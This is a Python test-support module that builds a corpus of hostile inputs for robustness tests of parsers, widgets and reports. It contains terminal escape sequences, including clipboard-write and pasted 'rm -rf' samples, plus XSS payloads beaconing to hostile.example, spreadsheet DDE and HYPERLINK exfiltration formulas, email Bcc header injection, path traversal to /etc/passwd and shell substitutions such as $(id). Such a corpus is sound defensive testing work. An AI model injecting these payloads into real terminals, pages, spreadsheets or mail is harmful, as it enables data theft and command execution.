"""The one corpus of hostile octets, which every parser, widget, report and command is fed with.

A text has a family: what would act on it if it arrived raw.  ``HOSTILE`` are the octets alone, for
parsers and widgets; ``tests.hostility`` brings them in through every door and looks at every way out.
What is as long as ten megabytes is made when asked for (``huge``).
"""

import enum
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from types import MappingProxyType


class Family(enum.Enum):
    """What would act on a text that arrived as it was sent."""

    CONTROL = "control characters"
    TERMINAL = "terminal escapes"
    BIDI = "bidirectional controls"
    HIDDEN = "characters without a glyph"
    COMBINING = "combining marks"
    WIDTH = "widths"
    LINES = "line separators"
    MARKUP = "markup of the interface"
    TEMPLATE = "template syntax"
    HTML = "HTML"
    MARKDOWN = "Markdown"
    CELL = "formulas of spreadsheets"
    HEADER = "header injection"
    PATH = "file names"
    ENCODING = "encodings"
    PROTOCOL = "protocol grammar"
    LONG = "length"


@dataclass(frozen=True, slots=True)
class Hostile:
    """One text of the corpus."""

    family: Family
    octets: bytes

    @property
    def name(self) -> str:
        """Family and number, as a test's id."""
        return f"{self.family.name.lower()}-{CORPUS.index(self)}"


def _of(family: Family, *texts: bytes | str) -> tuple[Hostile, ...]:
    return tuple(
        Hostile(family, text if isinstance(text, bytes) else text.encode("utf-8", "surrogatepass"))
        for text in texts
    )


CORPUS: tuple[Hostile, ...] = (
    *_of(
        Family.CONTROL,
        b"",
        b"\x00",
        b"\r",
        b"\n",
        b"\r\r\n\n\r",
        b" ",
        b"\t",
        b"\x08\x08\x08overwritten\x7f\x7f",
        b"\x0e\x0fshifted\x07\x0b\x0c",
        bytes(range(32)) + b"\x7f",
    ),
    *_of(
        Family.TERMINAL,
        b"\x1b[2J\x1b[31mred\x1b[0m",  # CSI: clear the screen, change the colour
        b"\x1b]0;owned\x07",  # OSC 0: set the window title
        b"\x1b]52;c;cm0gLXJmIH4=\x07",  # OSC 52: write to the clipboard
        b"\x1b]8;;http://example.com/\x1b\\click\x1b]8;;\x1b\\",  # OSC 8: a link
        b"\x1bP1$r0m\x1b\\",  # DCS
        b"\x1b_Gf=100;AAAA\x1b\\\x1b^privacy\x1b\\\x1bXstring\x1b\\",  # APC, PM, SOS
        b"\x1bc\x1b7\x1b8\x1b(0\x1b#8\x1bM\x1b[6n\x1b[c\x1b[?1049l\x1b[?2004l\x1b[21t",
        b"\x1b[<35;1;1M\x1b[200~rm -rf\r\x1b[201~\x1b[13;5u",  # what a terminal sends as keys
        b"\x9b31m\x9d52;c;AAAA\x9c\x90q\x9c\x9f\x9c\x9e\x9c\x98\x9c",  # C1 as single octets
        "\x9b31mC1 in UTF-8\x85\x84\x9d0;owned\x9c\x90q\x9c",
        bytes(range(0x80, 0xA0)),
        "".join(map(chr, range(0x80, 0xA1))),
        b"\x1b" * 40 + b"[" * 40,
        b"\x1b]52;c;",  # begun, and never ended: what follows would belong to it
    ),
    *_of(
        Family.BIDI,
        "exam\u202eelpmaxe.\u202ccom",  # right-to-left override
        "\u2066isolate\u2069 \u200b\u200e\u200f\ufeff zero width",
        "\u202a\u202b\u202d\u2067\u2068\u061c unbalanced",
        "\u05d0\u05d1.example \u0627\u0644.example 1-2-3",  # letters that are right-to-left by right
    ),
    *_of(
        Family.HIDDEN,
        "pay\u200bpal a\u200cb\u200dc\u2060d\u2064e\u00adf\u180eg\ufff9h\ufffbi",
        "a\ufe0fb\ufe00c\U000e0100d \U000e0001\U000e0041\U000e007f",  # selectors, tags
        "a\u034fb\u115fc\u1160d\u3164e\uffa0f\u17b4g\u180bh\u2800i\u1161\u1161j\u11a8\ud7cbk",  # joiners and fillers
        "\u00a0\u1680\u2000\u2003\u2007\u202f\u205f\u3000",  # spaces that are not U+0020
        "\u206a\u206f\U0001d173\U0001d17a\u2065\ufff0\U000e01ef\U000e0fff",
    ),
    *_of(
        Family.COMBINING,
        "z" + "\u0334\u0351\u0489" * 40,  # a stack of combining marks
        "\u0301\u0489\u20dd begins with marks",
        "\u0e01\u0e33\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49 " + "\u0e4d" * 30,
    ),
    *_of(
        Family.WIDTH,
        "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f1f0\U0001f1f7 e\u0301\u0327",
        "\u5bbd\uff11\u3000\u2800\U000e0041\ue000\ufffe\uffff",
        "\U0001f44d\U0001f3fd1\ufe0f\u20e3\u2764\ufe0f\U0001f3f4\U000e0067\U000e007f" * 6,
        "\u1100\u1161\u11a8\ud55c\uff21\ufdfd\u2e3b\U00012031",  # narrow, wide, and very wide
    ),
    *_of(
        Family.LINES,
        "\u2028line\u2029paragraph\x85next",
        b"a\x0bb\x0cc\x1cd\x1de\x1ef\xc2\x85g\xe2\x80\xa8h\xe2\x80\xa9i\rj",  # str.splitlines()
    ),
    *_of(
        Family.MARKUP,
        b"[/x]",
        b"[@click=app.quit]click me[/]",
        b"[bold red on blink]markup[/bold]",
        b"[link=http://example.com/]link[/link] \\[escaped]",
        b"[@click=app.copy_to_clipboard('x')]a[/] \\[@click=app.bell]b[/] [$error]c[/] [on red]d[/] [",
    ),
    *_of(
        Family.TEMPLATE,
        b"{{ 7 * 7 }} {% raw %} ${x} %s %n %(name)s {0.__class__}",
        b"%n%s%x" * 10,
        b"{name} {} {host!r} {:>999999999} {{ self.__init__.__globals__ }} {# #} <%= 7 %> `id` $(id)",
    ),
    *_of(
        Family.HTML,
        b"<script>alert(1)</script><img src=x onerror=alert(1)>&lt;\"'`",
        b"</pre></style></title></textarea>--><svg/onload=alert(1)><base href=//hostile.example/>",
        b"\"onmouseover=\"alert(1) 'onfocus='alert(1) style='background:url(//hostile.example/c)'",
        b"<img src=http://hostile.example/i><link rel=stylesheet href=//hostile.example/s>"
        b"<iframe src=//hostile.example/f></iframe><meta http-equiv=refresh content=0;//hostile.example/m>",
        b"javascript:alert(1) data:text/html,<script>alert(1)</script> &#60;b&#62; <![CDATA[ ]]> <?x ?>",
    ),
    *_of(
        Family.MARKDOWN,
        b"| markdown | table |\n|---|---|\n# heading\n```\n![x](http://example.com/)",
        b"[a](javascript:alert(1)) <http://hostile.example/> ![i](http://hostile.example/i) [r]: //x",
        b"https://hostile.example/ www.hostile.example a@hostile.example @team #1 GH-1 ~~s~~ $x$",
        b"`` ` ``` ~~~ ` || a | b \\| c \\` \\\\| **b** __u__ *i* _j_ <b>h</b> &copy; :smile: ==m==",
        b"> quote",
        b"- [ ] list 1. one --- === ***",
        b"    code",
    ),
    *_of(
        Family.CELL,
        b"=cmd|' /C calc'!A0",
        b"@SUM(1+1)*cmd|' /C calc'!A0",
        b"+1+cmd",
        b'-2+3,"a"",b";c\t=1+1',
        b'=HYPERLINK("http://hostile.example/?"&A1,"x")',
    ),
    *_of(
        Family.HEADER,
        b"x\r\nBcc: victim@example.com\r\n\r\nbody",
        b"x\nTo: victim@example.com",
        b"=?utf-8?q?a=0d=0aBcc:_victim@example.com?= =?utf-8?b?DQpCY2M6IHg=?=",
        b'"a\r\n b" <a@example.com>, victim@example.com; (c) <>',
    ),
    *_of(
        Family.PATH,
        b"../../../../etc/passwd\x00.txt",
        b"/etc/passwd ~root/x C:\\con\\..\\nul.txt -rf --output=x |id ;id &id $HOME *?",
    ),
    *_of(
        Family.ENCODING,
        b"\xff\xfe\x80\xc0\xaf",  # not UTF-8, and an overlong form
        b"\xed\xa0\x80\xed\xbf\xbf",  # lone surrogates
        b"\xf4\x90\x80\x80",  # beyond U+10FFFF
        b"\xc0\x9b\xe0\x80\x9b\xf0\x80\x80\x9b\xc0\x80\xc1\xbf",  # ESC and NUL, overlong
        b"\xe2\x80 \xf0\x9f\x98 cut \xef\xbf\xbe\xef\xbf\xbf\xf8\x88\x80\x80\x80",
        b"+AGYAbwBv- \x1b$B!!\x1b(B ~{VP~}",  # UTF-7, ISO-2022-JP, HZ
    ),
    *_of(
        Family.PROTOCOL,
        b"250-x\r\n" * 200,
        b"250 " + b"\x1b[A" * 100 + b"\r\n",
        b"220 ready\r\n250 injected\r\n",
        b"-1",
        b"1e999",
        b"xn--" + b"a" * 60 + b".xn--zzzzzz",
        b"." * 300,
        b'{"a":' * 500,
    ),
    *_of(
        Family.LONG,
        b"250-" + b"A" * 9_000 + b"\r\n",
        b"A" * 70_000,
        b"9" * 400,
    ),
)
HOSTILE: tuple[bytes, ...] = tuple(one.octets for one in CORPUS)

# A few of each family in one text, those that doors with little room let in at the beginning.
BUNDLES: Mapping[str, bytes] = MappingProxyType(
    {
        "terminal": b"\x1b]0;x\x07\x9b31m\x1b]8;;//h\x1b\\k\x1b[2J\x08\x00\xc2\x9d52;c;QQ==\xc2\x9c\x1bP0\x1b\\\xff",
        "unseen": "\u202ea\u200b\ufe0f\u0301b\u3164\u2028c\U000e0041d\u0334\u0334\u0334\u0334\u0334\u0334"
        "\U0001f468\u200d\U0001f469\ufeff\u2066\u1161".encode(),
        "markup": b"[/x][@click=app.quit]q[/][link=//h]l[/link]{{7*7}}{name}%s$(id)[bold",
        "pages": b"<b>*b*_i_[a](//h.example)`c`|=1+1|&lt;\"'><img src=//h.example>#1 @me www.h.example",
        "lines": b"x\r\nBcc: v@example.com\r\n\r\n# h\n=1+1,\t@x\x0b\x0c\x1c\xc2\x85\xe2\x80\xa9--\n```",
    }
)

_HUGE: Mapping[str, Callable[[], bytes]] = MappingProxyType(
    {
        "one letter": lambda: b"A" * 10_000_000,
        "one line of escapes": lambda: b"\x1b[2J\x07" * 2_000_000,
        "one line of marks": lambda: ("z" + "\u0334" * 9).encode() * 526_316,
        "two million lines": lambda: b"220-\x1b\r\n" * 1_430_000,
        "not UTF-8": lambda: b"\xff\x1b\xc2" * 3_333_333,
    }
)
HUGE = tuple(_HUGE)


def huge(name: str) -> bytes:
    """Return ten million octets, more or less."""
    return _HUGE[name]()
